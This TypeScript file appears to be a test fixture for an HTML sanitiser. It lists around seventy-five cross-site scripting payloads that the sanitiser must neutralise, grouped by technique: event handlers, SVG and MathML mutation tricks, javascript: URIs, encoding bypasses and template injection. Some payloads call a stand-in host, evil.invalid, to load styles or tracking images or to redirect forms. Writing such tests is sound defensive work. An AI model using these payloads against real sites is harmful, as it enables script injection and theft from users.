import { readFileSync, readdirSync } from 'node:fs';
import path from 'node:path';

/** Called by payloads that run; the browser spec watches it. */
const RUN = 'window.pwned=1';
const HOST = 'https://evil.invalid';

/** Markup that must show as text or vanish: what has broken sanitisers before, by family. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src=x onerror=${RUN}//`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><set attributeName=onmouseover to="${RUN}">`,
  `<svg><a xlink:href="javascript:${RUN}"><text x=20 y=20>a</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>#x"></use></svg>`,
  `<svg><foreignObject><body onload="${RUN}"></body></foreignObject></svg>`,
  `<svg><image href="${HOST}/a.png"></svg>`,
  `<svg><style>@import '${HOST}/a.css';</style></svg>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror=${RUN}></style></annotation-xml></math>`,
  `<math href="javascript:${RUN}">CLICK</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>"></textarea>`,
  `<xmp><img title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<select><option><style></option></select><img src=x onerror=${RUN}></style>`,
  `<title><img title="</title><img src=x onerror=${RUN}>"></title>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="${HOST}/a.swf">`,
  `<base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}/">`,
  `<link rel=stylesheet href="${HOST}/a.css">`,
  `<style>@import url(${HOST}/a.css);body{background:url(${HOST}/b.png)}</style>`,
  `<div style="background:url(${HOST}/c.png);position:fixed;inset:0">x</div>`,
  `<p style="x:expression(${RUN})">`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="jAvAsCrIpT&colon;${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href=" &#14; javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  `<a href="vbscript:x">x</a>`,
  `<a href="//evil.invalid/x">x</a>`,
  `<a href="https://user:pass@evil.invalid">x</a>`,
  `<img src="${HOST}/track.png">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>">`,
  `<img srcset="${HOST}/a.png 2x">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<marquee onstart="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<form action="${HOST}"><input type=submit></form>`,
  `<div id="slide" class="slide stage-bold">overlay</div>`,
  `<section class="slide"><h1>second</h1></section>`,
  `</section></main><h1>out</h1>`,
  `</p></li></ul></div></section><script>${RUN}</script>`,
  `"><img src=x onerror=${RUN}>`,
  `' onmouseover='${RUN}`,
  `" data-field="x" onclick="${RUN}`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<!-- --!><img src=x onerror=${RUN}> -->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x onclick=${RUN}>`,
  `<img src=x\u0000 onerror=${RUN}>`,
  `<im\u200bg src=x onerror=${RUN}>`,
  `\u003cimg src=x onerror=${RUN}\u003e`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&amp;lt;script&amp;gt;${RUN}`,
  `\`<script>${RUN}</script>\``,
  `**<img src=x onerror=${RUN}>**`,
  `*</em><script>${RUN}</script>*`,
  `[x](javascript:${RUN})`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<custom-element onclick="${RUN}">x</custom-element>`,
  `<p is="x-y" slot=z>x</p>`,
  `<div>`.repeat(300) + 'deep',
];

/** Payloads of other corpora: every `*.json` below the folder that has `cases[].payload`. */
export function payloadsIn(folder: string): string[] {
  const files = readdirSync(folder, { recursive: true, withFileTypes: true }).filter(
    (entry) => entry.isFile() && entry.name.endsWith('.json'),
  );
  return files.flatMap((entry) => {
    const { cases } = JSON.parse(readFileSync(path.join(entry.parentPath, entry.name), 'utf8')) as {
      cases?: unknown;
    };
    if (!Array.isArray(cases)) return [];
    return cases.flatMap((one: { payload?: unknown }) =>
      typeof one.payload === 'string' ? [one.payload] : [],
    );
  });
}
